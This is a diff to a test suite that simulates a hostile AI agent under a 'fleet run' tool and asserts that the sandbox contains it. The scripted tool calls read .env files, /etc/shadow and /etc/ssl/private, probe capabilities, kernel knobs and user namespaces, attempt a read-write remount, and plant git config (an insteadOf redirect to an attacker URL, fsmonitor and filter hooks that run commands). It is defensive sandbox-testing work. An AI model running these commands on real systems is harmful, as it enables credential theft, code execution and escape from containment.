@@ -243,7 +243,12 @@ describe("containment: a hostile agent under the real `fleet run`", () => {
               `ls -la ${fleetHome} ${appDir} ${resolve(".")}`,
               `cat ${join(appDir, ".env")} ${resolve("package.json")}`,
               `cat ${join(fleetHome, "work", "tasks")}/*/agent.log`,
-              "ls /root /home /etc/shadow /etc/gitconfig",
+              "ls /root /home /etc/shadow /etc/gitconfig /etc/ssl/private",
+              // No capability left and the kernel's knobs read-only, also for a root worker.
+              "grep CapEff /proc/self/status",
+              "test -w /proc/sys/kernel/core_pattern && echo KNOBS-WRITABLE",
+              "unshare -U true 2>/dev/null && echo USERNS-ALLOWED",
+              'echo "HOME=$HOME"',
             ].join("; "),
           ),
         ],
@@ -258,6 +263,10 @@ describe("containment: a hostile agent under the real `fleet run`", () => {
     const seen = toolResults(r.requests);
     expectNoLeak(seen, "what the agent saw");
     expect(seen).toMatch(/No such file or directory/);
+    expect(seen).toMatch(/CapEff:\s+0+\b/);
+    expect(seen).not.toMatch(/KNOBS-WRITABLE|USERNS-ALLOWED/);
+    // Its HOME is not in the task's artifacts folder (which a runner uploads for anyone who reads the repository).
+    expect(seen).toMatch(/HOME=\S+\/homes\/fl-/);
     for (const p of [join(fleetHome, "pwned.txt"), join(appDir, "pwned.txt"), hostTmp]) {
       await expect(readFile(p, "utf8"), p).rejects.toThrow(/ENOENT/);
     }
@@ -271,7 +280,8 @@ describe("containment: a hostile agent under the real `fleet run`", () => {
 
   it("git config it plants (insteadOf, fsmonitor, filter drivers) is never honoured, now or on the next task", async () => {
     const markers = ["fsmonitor-ran", "fsmonitor2-ran", "filter-ran"].map((m) => join(scratch, m));
-    const ghUrl = h.gh.url.replace(/\/$/, "");
+    // The URL the worker's cache clone really fetches from and pushes to (the repository's clone_url).
+    const ghUrl = h.cloneUrl.replace(/\/$/, "");
     const r = await scenario("Poison git", ({ notes }) => [
       {
         toolUses: [
@@ -279,7 +289,10 @@ describe("containment: a hostile agent under the real `fleet run`", () => {
             [
               "gitdir=$(sed 's/^gitdir: //' .git)",
               'common=$(cd "$gitdir" && cd "$(cat commondir)" && pwd)',
-              `git config --file "$common/config" url.${attacker.url}/.insteadOf ${ghUrl}/ 2>&1`,
+              // As root a sandbox without its own user namespace could make the git data writable again.
+              'mount -o remount,rw,bind "$common" 2>&1',
+              `git config --file "$common/config" url.${attacker.url}/.insteadOf ${ghUrl} 2>&1`,
+              `git config --file "$common/config" filter.y.clean "touch ${markers[2]}; cat" 2>&1`,
               `git config core.fsmonitor "touch ${markers[0]}" 2>&1`,
               `echo '[url "${attacker.url}/"]' >> "$common/config" 2>&1`,
               "rm -f .git && mkdir .git",
@@ -295,6 +308,7 @@ describe("containment: a hostile agent under the real `fleet run`", () => {
       { text: "Done.", usage: USAGE },
     ]);
     expect(toolResults(r.requests)).toMatch(/Read-only file system/);
+    expect(toolResults(r.requests)).toMatch(/mount: .*(permission denied|must be superuser)/i);
     expect(r.task.state, r.task.reason).toBe("pr-open");
     // An innocent task on the same worker (same cache clone) after it.
     const next = await scenario("Innocent follow-up", ({ path, notes }) => [
